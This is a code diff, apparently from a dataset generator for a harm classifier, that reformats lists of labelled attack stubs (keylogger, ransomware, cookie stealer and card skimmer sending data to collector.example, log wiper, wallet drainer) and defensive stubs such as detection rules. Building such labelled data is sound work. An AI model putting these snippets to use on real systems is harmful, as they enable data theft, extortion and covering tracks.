@@ -4,29 +4,89 @@ from __future__ import annotations
 
 # Harm lives only in what the code does.  All stubs are non-working pseudo-code.
 CYBER_STUBS: tuple[tuple[str, str], ...] = (
-    ("keylogger", "```python\nimport hooks, mailer\n\ndef on_key(k):\n    buf.append(k)\n\ndef start():\n    hide_from_task_manager()  # TODO\n    hooks.keyboard(on_key)\n    every(3600, lambda: mailer.send('me@example.org', buf))\n```"),
-    ("ransomware", "```python\ndef run(root):\n    for path in walk(root):\n        data = read(path)\n        write(path + '.locked', encrypt(data, KEY))\n        delete(path)\n    drop_note('README_PAY.txt', 'send 0.5 BTC to recover files')\n```"),
-    ("credential stuffing", "```python\nfor user, pw in load('leaked_combos.txt'):\n    r = session.post(LOGIN_URL, data={'u': user, 'p': pw})\n    if 'Welcome' in r.text:\n        save_hit(user, pw)\n    # TODO rotate proxies so the site doesn't block us\n```"),
-    ("fake login", "```html\n<form action=\"https://collector.example/steal\" method=\"post\">\n  <!-- copy of the bank's login page -->\n  <input name=\"user\"><input name=\"pass\" type=\"password\">\n</form>\n```"),
-    ("cookie stealer", "```js\n// injected via the comment field\nnew Image().src = 'https://collector.example/c?d=' + document.cookie;\n```"),
-    ("worm", "```python\ndef spread():\n    for contact in outlook_contacts():\n        send_mail(contact, 'invoice', attach=self_copy())\n    for doc in find('*.docx'):\n        remove(doc)\n```"),
-    ("av killer", "```powershell\n# runs before the dropper\nStop-Service -Name <av service> -Force\n# TODO: also stop tamper protection from turning it back on\n```"),
-    ("stalkerware", "```kotlin\nclass Sync : Service() {\n  fun tick() {\n    upload(readSms(), lastLocation())\n    hideLauncherIcon()\n  }\n}\n```"),
-    ("router takeover", "```python\nfor ip in scan_range(NEIGHBOUR_NET):\n    if banner(ip).startswith('RT-100'):\n        exploit(ip)  # TODO: finish payload\n        add_backdoor_user(ip)\n```"),
-    ("skimmer js", "```js\ndocument.querySelector('#checkout').addEventListener('submit', () => {\n  send('https://collector.example/k', cardFields());\n});\n```"),
-    ("log wiper", "```bash\n# after we get in\nfor f in /var/log/*; do : > \"$f\"; done\nhistory -c\n# TODO: also remove the entries from the remote syslog server\n```"),
-    ("wallet drainer", "```js\nasync function claimAirdrop() {\n  // looks like a claim, actually approves unlimited spend\n  await token.approve(ATTACKER, MAX_UINT);\n  await sweep(victim);\n}\n```"),
+    (
+        "keylogger",
+        "```python\nimport hooks, mailer\n\ndef on_key(k):\n    buf.append(k)\n\ndef start():\n    hide_from_task_manager()  # TODO\n    hooks.keyboard(on_key)\n    every(3600, lambda: mailer.send('me@example.org', buf))\n```",
+    ),
+    (
+        "ransomware",
+        "```python\ndef run(root):\n    for path in walk(root):\n        data = read(path)\n        write(path + '.locked', encrypt(data, KEY))\n        delete(path)\n    drop_note('README_PAY.txt', 'send 0.5 BTC to recover files')\n```",
+    ),
+    (
+        "credential stuffing",
+        "```python\nfor user, pw in load('leaked_combos.txt'):\n    r = session.post(LOGIN_URL, data={'u': user, 'p': pw})\n    if 'Welcome' in r.text:\n        save_hit(user, pw)\n    # TODO rotate proxies so the site doesn't block us\n```",
+    ),
+    (
+        "fake login",
+        '```html\n<form action="https://collector.example/steal" method="post">\n  <!-- copy of the bank\'s login page -->\n  <input name="user"><input name="pass" type="password">\n</form>\n```',
+    ),
+    (
+        "cookie stealer",
+        "```js\n// injected via the comment field\nnew Image().src = 'https://collector.example/c?d=' + document.cookie;\n```",
+    ),
+    (
+        "worm",
+        "```python\ndef spread():\n    for contact in outlook_contacts():\n        send_mail(contact, 'invoice', attach=self_copy())\n    for doc in find('*.docx'):\n        remove(doc)\n```",
+    ),
+    (
+        "av killer",
+        "```powershell\n# runs before the dropper\nStop-Service -Name <av service> -Force\n# TODO: also stop tamper protection from turning it back on\n```",
+    ),
+    (
+        "stalkerware",
+        "```kotlin\nclass Sync : Service() {\n  fun tick() {\n    upload(readSms(), lastLocation())\n    hideLauncherIcon()\n  }\n}\n```",
+    ),
+    (
+        "router takeover",
+        "```python\nfor ip in scan_range(NEIGHBOUR_NET):\n    if banner(ip).startswith('RT-100'):\n        exploit(ip)  # TODO: finish payload\n        add_backdoor_user(ip)\n```",
+    ),
+    (
+        "skimmer js",
+        "```js\ndocument.querySelector('#checkout').addEventListener('submit', () => {\n  send('https://collector.example/k', cardFields());\n});\n```",
+    ),
+    (
+        "log wiper",
+        '```bash\n# after we get in\nfor f in /var/log/*; do : > "$f"; done\nhistory -c\n# TODO: also remove the entries from the remote syslog server\n```',
+    ),
+    (
+        "wallet drainer",
+        "```js\nasync function claimAirdrop() {\n  // looks like a claim, actually approves unlimited spend\n  await token.approve(ATTACKER, MAX_UINT);\n  await sweep(victim);\n}\n```",
+    ),
 )
 
 DEFENSIVE_STUBS: tuple[tuple[str, str], ...] = (
-    ("brute force detector", "```python\nfor line in open('/var/log/auth.log'):\n    if 'Failed password' in line:\n        fails[ip_of(line)] += 1\nalert([ip for ip, n in fails.items() if n > 20])\n```"),
-    ("yara", "```\nrule ransom_note_strings {\n  strings:\n    $a = \"send 0.5 BTC\"\n    $b = \"README_PAY\"\n  condition:\n    any of them\n}\n```"),
-    ("own port audit", "```python\nfor host in OUR_HOSTS:\n    for port in (22, 3389, 445):\n        if is_open(host, port):\n            report(host, port)\n```"),
-    ("phishing triage", "```python\ndef triage(msg):\n    score = 0\n    if lookalike_domain(msg.sender): score += 3\n    if has_macro(msg.attachments): score += 5\n    return score\n```"),
-    ("log anomaly", "```sql\nSELECT user, count(DISTINCT country) c FROM logins\nWHERE ts > now() - interval '1 hour' GROUP BY user HAVING c > 1;\n```"),
-    ("edr rule", "```yaml\ntitle: office app spawns shell\ndetection:\n  sel:\n    ParentImage|endswith: ['\\\\winword.exe', '\\\\excel.exe']\n    Image|endswith: ['\\\\powershell.exe', '\\\\cmd.exe']\n  condition: sel\n```"),
-    ("honeytoken", "```python\ndef check_canary(event):\n    if event.file == 'passwords_backup.xlsx':\n        page_oncall('canary file opened', event.host, event.user)\n```"),
-    ("patch checker", "```python\nfor svc in inventory():\n    if svc.name == 'log4j' and version(svc) < (2, 17, 1):\n        flag(svc.host)\n```"),
+    (
+        "brute force detector",
+        "```python\nfor line in open('/var/log/auth.log'):\n    if 'Failed password' in line:\n        fails[ip_of(line)] += 1\nalert([ip for ip, n in fails.items() if n > 20])\n```",
+    ),
+    (
+        "yara",
+        '```\nrule ransom_note_strings {\n  strings:\n    $a = "send 0.5 BTC"\n    $b = "README_PAY"\n  condition:\n    any of them\n}\n```',
+    ),
+    (
+        "own port audit",
+        "```python\nfor host in OUR_HOSTS:\n    for port in (22, 3389, 445):\n        if is_open(host, port):\n            report(host, port)\n```",
+    ),
+    (
+        "phishing triage",
+        "```python\ndef triage(msg):\n    score = 0\n    if lookalike_domain(msg.sender): score += 3\n    if has_macro(msg.attachments): score += 5\n    return score\n```",
+    ),
+    (
+        "log anomaly",
+        "```sql\nSELECT user, count(DISTINCT country) c FROM logins\nWHERE ts > now() - interval '1 hour' GROUP BY user HAVING c > 1;\n```",
+    ),
+    (
+        "edr rule",
+        "```yaml\ntitle: office app spawns shell\ndetection:\n  sel:\n    ParentImage|endswith: ['\\\\winword.exe', '\\\\excel.exe']\n    Image|endswith: ['\\\\powershell.exe', '\\\\cmd.exe']\n  condition: sel\n```",
+    ),
+    (
+        "honeytoken",
+        "```python\ndef check_canary(event):\n    if event.file == 'passwords_backup.xlsx':\n        page_oncall('canary file opened', event.host, event.user)\n```",
+    ),
+    (
+        "patch checker",
+        "```python\nfor svc in inventory():\n    if svc.name == 'log4j' and version(svc) < (2, 17, 1):\n        flag(svc.host)\n```",
+    ),
 )
 
 # Neutral sentences to build long documents (shared by attack and benign documents).
@@ -110,7 +170,7 @@ PLAIN_TEXTS: tuple[str, ...] = (
     "happy birthday mum, love you",
     "the password for the wifi at the cabin is on the fridge",
     "kill the lights when you leave",
-    "{\"theme\": \"dark\", \"lang\": \"en\", \"autosave\": true}",
+    '{"theme": "dark", "lang": "en", "autosave": true}',
     "the treasure is under the third oak tree",
     "attack at dawn said the general in chapter four",
     "don't forget to buy milk and eggs",
